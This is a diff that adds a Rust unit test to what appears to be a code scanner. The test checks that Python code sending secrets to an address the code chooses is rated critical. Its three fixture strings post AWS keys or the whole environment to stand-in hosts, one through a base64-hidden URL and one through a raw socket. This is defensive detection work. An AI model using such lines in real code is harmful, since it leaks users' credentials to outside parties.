@@ -231,3 +231,31 @@ fn a_download_made_executable_and_a_login_hook_are_reported() {
     let report = scan(&ManifestFacts::default(), &[Entry { path: "x.py", bytes: benign.as_bytes() }]);
     assert!(report.risk_level < RiskLevel::High, "{:#?}", report.findings);
 }
+
+/// Where secrets go sets the level (issue 19): to an address the code spells
+/// out or hides it is critical; to one only configuration names (a cloud SDK
+/// signing in to its own service) it is high.
+#[test]
+fn sending_secrets_is_critical_when_the_code_chose_where() {
+    let chosen = [
+        "import os, requests\nHOOK = 'https://collector.example.invalid/x'\nrequests.post(HOOK, data=os.getenv('AWS_SECRET_ACCESS_KEY'))\n",
+        "import os, requests, base64\nu = base64.b64decode('aHR0cHM6Ly9ldmlsLmV4YW1wbGU=').decode()\nrequests.post(u, json=dict(os.environ))\n",
+        "import os, socket\ns = socket.socket()\ns.connect(('203.0.113.5', 443))\ns.sendall(str(dict(os.environ)).encode())\n",
+    ];
+    for src in chosen {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "x.py", bytes: src.as_bytes() }]);
+        assert!(
+            report.findings.iter().any(|f| f.rule == "exfiltration" && f.severity == Severity::Critical),
+            "{src}\n{:#?}",
+            report.findings
+        );
+    }
+    let configured = "import os\nclass Client:\n    def __init__(self, endpoint, session):\n        \
+                      self.endpoint, self.session = endpoint, session\n    \
+                      def call(self):\n        token = os.getenv('SERVICE_API_TOKEN')\n        \
+                      return self.session.post(self.endpoint, headers={'Authorization': token})\n";
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "client.py", bytes: configured.as_bytes() }]);
+    let f =
+        report.findings.iter().find(|f| f.rule == "exfiltration").unwrap_or_else(|| panic!("{:#?}", report.findings));
+    assert_eq!(f.severity, Severity::High);
+}
